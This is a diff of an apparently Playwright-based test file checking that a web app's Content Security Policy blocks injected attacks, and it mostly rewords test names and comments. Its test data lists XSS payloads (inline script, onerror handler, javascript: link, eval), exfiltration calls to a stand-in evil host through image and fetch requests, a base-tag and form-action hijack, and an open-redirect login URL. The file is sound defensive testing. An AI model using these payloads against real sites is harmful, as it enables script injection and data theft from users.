@@ -12,8 +12,8 @@ const stripeFrame = 'https://js.stripe.com/payment-element.html';
 const stripe = await startStripeServer();
 
 /**
- * Injects into the page what an attacker would who found a way to write into it.
- * @returns what the browser refused, as `directive what`
+ * Injects code into the page, as an attacker who can write into it would.
+ * @returns the refusals of the browser, each as `directive source`
  */
 async function refusedBy(page: Page, act: string): Promise<string[]> {
   await page.evaluate(`(() => {
@@ -29,18 +29,22 @@ async function refusedBy(page: Page, act: string): Promise<string[]> {
   return Array.isArray(refused) ? refused.map(String) : [];
 }
 
-/** Attacks in the page, with the browser's report of each. */
+/** Attacks in the page, each with the refusal that the browser reports. */
 const written: [name: string, act: string, refusal: string][] = [
   ['a script', 'add("script", { textContent: "window.owned = true" })', 'script-src-elem inline'],
-  ['an event', 'add("p", { innerHTML: "<img src=x: onerror=\'owned = true\'>" })', 'script-src-attr inline'],
+  [
+    'an event handler',
+    'add("p", { innerHTML: "<img src=x: onerror=\'owned = true\'>" })',
+    'script-src-attr inline',
+  ],
   [
     'a link that is a script',
     'const link = document.createElement("a"); link.href = "javascript:owned=true"; document.body.append(link); link.click()',
     'script-src-elem inline',
   ],
   [
-    'a text that becomes a script',
-    // Not at once: code that a debugger runs may do more than the page.
+    'a text that is run as a script',
+    // Runs later, because code that a debugger runs has more rights than the page.
     'setTimeout(() => { try { window.owned = eval("1") } catch {} })',
     'script-src eval',
   ],
@@ -48,29 +52,33 @@ const written: [name: string, act: string, refusal: string][] = [
   ['a frame', `add("iframe", { src: "${evil}/" })`, `frame-src ${evil}`],
   ['an object', `add("object", { data: "${evil}/x.swf" })`, `object-src ${evil}`],
   ['a style', 'add("style", { textContent: "body { display: none }" })', 'style-src-elem inline'],
-  ['a picture that tells', `add("img", { src: "${evil}/?secret" })`, `img-src ${evil}/?secret`],
-  ['a call that tells', `fetch("${evil}/?secret").catch(() => {})`, `connect-src ${evil}/?secret`],
-  ['another base of all addresses', `add("base", { href: "${evil}/" })`, `base-uri ${evil}/`],
+  ['a picture that sends data', `add("img", { src: "${evil}/?secret" })`, `img-src ${evil}/?secret`],
+  ['a call that sends data', `fetch("${evil}/?secret").catch(() => {})`, `connect-src ${evil}/?secret`],
+  ['another base address', `add("base", { href: "${evil}/" })`, `base-uri ${evil}/`],
   [
-    'a form that leads away',
+    'a form that leads to another site',
     `add("form", { action: "${evil}/", method: "post" }); document.forms[0].submit()`,
     `form-action ${evil}/`,
   ],
-  ['the payment form, where nothing is paid', `add("script", { src: "${stripeScript}" })`, stripeScript],
+  [
+    'the payment script on a server without payments',
+    `add("script", { src: "${stripeScript}" })`,
+    stripeScript,
+  ],
 ];
 
-describe('what is written into a page', () => {
+describe('an attack in a page', () => {
   const visits = visitWebApp();
 
   // attack: 99
-  it.each(byScope(written.slice(0, 4), written))('%s does nothing', async (_what, act, refusal) => {
+  it.each(byScope(written.slice(0, 4), written))('has no effect: %s', async (_what, act, refusal) => {
     visits.expectFault(/Content Security Policy|violates the following/);
     const page = await visits.open('/about');
     expect((await refusedBy(page, act)).join('\n')).toContain(refusal);
   });
 
   // attack: 100
-  it('and an address to go on to after signing in leads nowhere else', async () => {
+  it('cannot redirect the sign-in to another site', async () => {
     const { user, password } = await signUp(visits.testApp);
     const page = await visits.open('/login?next=//evil.example&redirect=https://evil.example');
     await textField(page, 'Email').fill(user.email);
@@ -82,12 +90,12 @@ describe('what is written into a page', () => {
   });
 });
 
-describe('where payments are made', () => {
+describe('on a server with payments', () => {
   afterAll(() => stripe.close());
   const visits = visitWebApp({ app: { env: stripe.env } });
 
   // attack: 99
-  it('their script and their frame work, and nothing of anybody else', async () => {
+  it('the script and the frame of the provider work, and those of other sites do not', async () => {
     visits.expectFault(/Content Security Policy|violates the following/);
     const page = await visits.open('/about');
     await routeStripeJs(page.context(), stripe);
